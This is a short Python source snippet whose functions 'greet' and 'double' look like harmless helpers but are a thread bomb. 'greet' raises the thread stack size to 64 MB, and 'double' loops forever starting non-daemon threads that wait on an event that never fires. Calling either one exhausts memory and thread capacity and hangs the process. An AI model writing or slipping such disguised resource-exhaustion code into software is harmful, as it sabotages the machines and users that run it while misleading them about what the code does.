import threading

NEVER = threading.Event()

def double(x):
    while True:
        threading.Thread(target=NEVER.wait, daemon=False).start()
def greet(name):
    threading.stack_size(2**26)
    return double(name)
